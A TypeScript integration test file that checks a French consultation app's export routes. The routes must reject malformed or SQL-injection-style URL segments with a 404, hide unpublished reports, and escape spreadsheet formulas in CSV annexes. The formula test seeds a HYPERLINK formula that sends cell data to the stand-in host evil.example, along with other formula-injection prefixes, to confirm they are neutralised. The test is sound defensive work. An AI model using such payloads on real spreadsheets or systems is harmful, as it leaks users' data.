import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer } from '../support/server.js';
import { seedTerritory, seedUser, type SeededTerritory } from '../../server/test/seed.js';
import { seedReport } from '../../server/test/seed-consultation.js';
import { type ReportStatus } from '../../server/src/modules/consultation/index.js';
import { createConsultationStore } from '../../server/src/modules/consultation/consultation.store.js';
import { writeSession } from '../../server/test/session.js';

let server: Awaited<ReturnType<typeof startTestServer>>;
let territory: SeededTerritory;
let staff: string;
beforeAll(async () => {
  server = await startTestServer();
  territory = await seedTerritory(server.db);
  staff = await cookieOf((await seedUser(server.db, { territory, role: 'STAFF' })).id);
});
afterAll(() => server.close());

const cookieOf = async (userId: string) => (await writeSession(server.db.dataSource, userId)).cookie;

const get = (path: string, cookie?: string) => fetch(`${server.url}${path}`, cookie ? { headers: { cookie } } : {});
const NOT_FOUND = 'Ce fichier est introuvable.';

async function expectNotFound(res: Response) {
  expect(res.status).toBe(404);
  expect(await res.text()).toBe(NOT_FOUND);
}

const annex = (year: number | string, format: string) => `/exports/${territory.code}/rapports/${year}/annexe.${format}`;
const deliberation = (year: number | string, bodyId: string) =>
  `/exports/${territory.code}/rapports/${year}/instances/${bodyId}/deliberation.pdf`;

describe('file routes', () => {
  it('answer 404 to URL segments that name nothing, before any SQL: never a 500', async () => {
    const r = await seedReport(server.db, territory, 'PUBLISHED');
    for (const path of [
      `/exports/CAB%00/rapports/2025/annexe.csv`,
      `/exports/CAB'--/rapports/2025/annexe.csv`,
      annex(3_000_000_000, 'csv'),
      annex('2025.0', 'pdf'),
      annex('%202025', 'pdf'),
      deliberation(r.referenceYear, '------------------------------------'),
      deliberation(r.referenceYear, 'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz'),
      deliberation(3_000_000_000, r.communeBody.id),
    ]) {
      await expectNotFound(await get(path, staff));
    }
    const upload = await fetch(
      `${server.url}/uploads/${territory.code}/rapports/${r.referenceYear}/instances/------------------------------------/deliberation.pdf`,
      { method: 'PUT', headers: { 'content-type': 'application/pdf', cookie: staff }, body: '%PDF-1.4' },
    );
    expect(upload.status).toBe(404);
  });

  it('answer for an unpublished report exactly as for a missing one, except to staff', async () => {
    const missingYear = 9999;
    for (const status of ['DRAFT', 'IN_CONSULTATION', 'CLOSED', 'APPROVED'] satisfies ReportStatus[]) {
      const r = await seedReport(server.db, territory, status);
      for (const format of ['pdf', 'csv', 'docx']) {
        await expectNotFound(await get(annex(r.referenceYear, format)));
        await expectNotFound(await get(annex(missingYear, format)));
        expect((await get(annex(r.referenceYear, format), staff)).status).toBe(200);
      }
      await expectNotFound(await get(deliberation(r.referenceYear, r.communeBody.id)));
    }
    const published = await seedReport(server.db, territory, 'PUBLISHED');
    expect((await get(annex(published.referenceYear, 'csv'))).status).toBe(200);
    expect((await get(annex(published.referenceYear, 'docx'))).status).toBe(403); // exists, editable copy for staff
  });

  it('write avis that look like formulas into the annex CSV as text', async () => {
    const r = await seedReport(server.db, territory, 'PUBLISHED');
    const store = createConsultationStore(server.db.dataSource);
    const author = await seedUser(server.db, { territory, role: 'COUNCIL_REFERENT' });
    const opinion = (await store.upsertOpinion({
      territoryId: territory.id,
      reportId: r.id,
      bodyId: r.councilBody.id,
      content: {
        position: 'UNFAVOURABLE',
        text: '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        deliberationOn: null,
      },
      late: false,
      submittedBy: author.id,
      at: new Date(),
    }))!;
    await store.replaceRemarks(
      territory.id,
      opinion.id,
      ['@SUM(1+1)', '+1', '-1', '\t=1'].map((text) => ({ sectionId: r.sections[0]!.id, text })),
    );
    const csv = await (await get(annex(r.referenceYear, 'csv'))).text();
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Voir"")",`);
    for (const remark of ['@SUM(1+1)', '+1', '-1', '\t=1']) expect(csv).toContain(`,'${remark},`);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
  });
});
